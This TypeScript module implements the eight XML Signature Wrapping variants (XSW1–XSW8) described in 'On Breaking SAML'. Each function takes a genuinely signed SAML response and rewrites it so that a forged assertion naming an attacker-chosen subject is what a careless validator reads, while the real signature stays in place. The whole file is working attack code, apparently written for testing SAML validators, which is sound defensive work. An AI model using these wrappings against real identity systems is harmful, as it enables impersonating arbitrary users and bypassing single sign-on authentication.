// Signature wrapping as in Somorovsky et al., "On Breaking SAML" (2012): the signature is genuine and
// what it covers is still somewhere in the document, but the part that a careless reader takes is
// another one. Eight variants, named as in the literature.

const whole = (pattern: RegExp, xml: string): string => {
  const [found] = pattern.exec(xml) ?? [];
  if (found === undefined) throw new Error(`nothing like ${pattern}`);
  return found;
};
const signatureIn = (xml: string) => whole(/<ds:Signature[\s\S]*<\/ds:Signature>/, xml);
const assertionIn = (xml: string) => whole(/<saml:Assertion[\s\S]*<\/saml:Assertion>/, xml);
const withoutSignature = (xml: string) => xml.replace(/<ds:Signature[\s\S]*<\/ds:Signature>/, "");
const endOf = (xml: string, what: string) =>
  xml.replace("</samlp:Response>", `${what}</samlp:Response>`);

/** The part as the attacker wants it: another subject, and an id of its own. */
const evil = (xml: string, subject: string) =>
  withoutSignature(xml)
    .replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${subject}`)
    .replace(/ ID="[^"]*"/, ' ID="_evil"');

export interface Wrapping {
  readonly name: string;
  /** Which part the genuine signature covers. */
  readonly signs: "response" | "assertion";
  readonly wrap: (xml: string, subject: string) => string;
}

export const WRAPPINGS: readonly Wrapping[] = [
  {
    name: "XSW1: the signed response within the signature of another",
    signs: "response",
    wrap(xml, subject) {
      const signature = signatureIn(xml).replace(
        "</ds:Signature>",
        `${withoutSignature(xml)}</ds:Signature>`,
      );
      return endOf(evil(xml, subject), signature);
    },
  },
  {
    name: "XSW2: the signed response beside its signature in another",
    signs: "response",
    wrap: (xml, subject) => endOf(evil(xml, subject), withoutSignature(xml) + signatureIn(xml)),
  },
  {
    name: "XSW3: another assertion before the signed one",
    signs: "assertion",
    wrap: (xml, subject) => {
      const assertion = assertionIn(xml);
      return xml.replace(assertion, evil(assertion, subject) + assertion);
    },
  },
  {
    name: "XSW4: the signed assertion within another",
    signs: "assertion",
    wrap: (xml, subject) => {
      const assertion = assertionIn(xml);
      const outer = evil(assertion, subject);
      return xml.replace(
        assertion,
        outer.replace("</saml:Assertion>", `${assertion}</saml:Assertion>`),
      );
    },
  },
  {
    name: "XSW5: the signature in another assertion, and what it covers at the end",
    signs: "assertion",
    wrap: (xml, subject) => {
      const assertion = assertionIn(xml);
      const outer = evil(assertion, subject).replace(
        "</saml:Issuer>",
        `</saml:Issuer>${signatureIn(xml)}`,
      );
      return endOf(xml.replace(assertion, outer), withoutSignature(assertion));
    },
  },
  {
    name: "XSW6: what is signed within the signature in another assertion",
    signs: "assertion",
    wrap: (xml, subject) => {
      const assertion = assertionIn(xml);
      const signature = signatureIn(xml).replace(
        "</ds:Signature>",
        `${withoutSignature(assertion)}</ds:Signature>`,
      );
      const outer = evil(assertion, subject).replace(
        "</saml:Issuer>",
        `</saml:Issuer>${signature}`,
      );
      return xml.replace(assertion, outer);
    },
  },
  {
    name: "XSW7: another assertion in extensions before the signed one",
    signs: "assertion",
    wrap: (xml, subject) => {
      const assertion = assertionIn(xml);
      const hidden = `<samlp:Extensions>${evil(assertion, subject)}</samlp:Extensions>`;
      return xml.replace(assertion, hidden + assertion);
    },
  },
  {
    name: "XSW8: what is signed in an object of the signature of another assertion",
    signs: "assertion",
    wrap: (xml, subject) => {
      const assertion = assertionIn(xml);
      const signature = signatureIn(xml).replace(
        "</ds:Signature>",
        `<ds:Object>${withoutSignature(assertion)}</ds:Object></ds:Signature>`,
      );
      const outer = evil(assertion, subject).replace(
        "</saml:Issuer>",
        `</saml:Issuer>${signature}`,
      );
      return xml.replace(assertion, outer);
    },
  },
];

export { withoutSignature };
